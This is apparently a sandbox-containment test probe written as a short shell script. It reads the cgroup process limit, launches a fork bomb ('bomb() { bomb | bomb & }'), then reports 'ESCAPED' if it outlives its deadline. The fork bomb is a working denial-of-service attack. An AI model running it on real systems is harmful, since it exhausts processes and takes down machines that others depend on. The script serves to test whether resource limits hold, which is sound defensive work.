
echo "SEEN:pids-max:$(cat /sys/fs/cgroup/pids/pids.max)"
bomb() { bomb | bomb & }
bomb
sleep 30
echo "ESCAPED:fork-bomb:the script outlived its deadline"
